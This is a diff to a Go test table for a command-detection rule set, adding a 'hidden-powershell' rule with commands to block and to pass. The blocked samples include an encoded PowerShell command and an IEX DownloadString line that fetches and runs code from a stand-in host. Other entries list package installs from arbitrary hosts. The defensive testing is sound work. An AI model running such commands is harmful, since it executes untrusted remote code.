@@ -44,6 +44,11 @@ var codeSamples = []sample{
 		},
 	},
 	{
+		rule: "hidden-powershell", lang: "bash",
+		block: []string{"pwsh -EncodedCommand SQBFAFgA", "powershell -w hidden -c 'ls'", "pwsh -c 'IEX (New-Object Net.WebClient).DownloadString(\"http://h.example/x\")'"},
+		pass:  []string{"pwsh -c 'Get-ChildItem'", "pwsh ./build.ps1", "pwsh -Version", "echo powershell -enc x"},
+	},
+	{
 		rule: "package-from-anywhere", lang: "bash",
 		block: []string{"pip install http://h.example/x.tar.gz", "pip install --index-url http://203.0.113.4/simple x", "npm install https://203.0.113.4/x.tgz", "pip install git+http://h.example/x.git"},
 		pass:  []string{"pip install git+https://github.com/a/b.git", "pip install --index-url https://download.pytorch.org/whl/cpu torch", "npm install --registry http://localhost:4873 x", "pip install -i http://10.0.0.4/simple x", "npm install https://github.com/a/b/tarball/main"},
